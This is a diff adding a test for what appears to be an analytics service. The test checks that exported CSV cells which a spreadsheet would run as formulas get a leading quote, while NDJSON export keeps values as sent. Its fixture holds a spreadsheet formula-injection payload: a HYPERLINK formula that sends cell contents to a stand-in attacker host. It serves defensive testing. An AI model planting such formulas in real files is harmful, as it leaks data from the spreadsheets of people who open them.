@@ -140,3 +140,27 @@ def test_exporting_100k_events_streams_in_bounded_memory(secret_client, register
     # fetch of 2000 rows and one 64 KiB block.
     assert peak < 8 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB for {size / 1e6:.1f} MB of CSV"
     assert size > 2 * peak
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
+    publishable_client, secret_client, registered
+):
+    hostile = {
+        "event": '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
+        "userId": "+1-555-0100",
+        "anonymousId": "-2+3",
+        "sessionId": "@SUM(A1:A9)",
+        "timestamp": "2024-05-03T08:00:00Z",
+    }
+    response = publishable_client.post("/api/analytics/collect", hostile, format="json")  # a browser's key
+    assert response.status_code == 201, response.content
+    (row,) = csv.DictReader(io.StringIO(_export(secret_client, format="csv")))
+    assert (row["event"], row["userId"], row["anonymousId"], row["sessionId"]) == (
+        "'" + hostile["event"],
+        "'+1-555-0100",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+    )
+    assert row["timestamp"] == "2024-05-03T08:00:00+00:00"  # cells that start otherwise are untouched
+    (line,) = _export(secret_client, format="ndjson").splitlines()
+    assert json.loads(line)["event"] == hostile["event"]  # NDJSON is data for programs: exported as sent
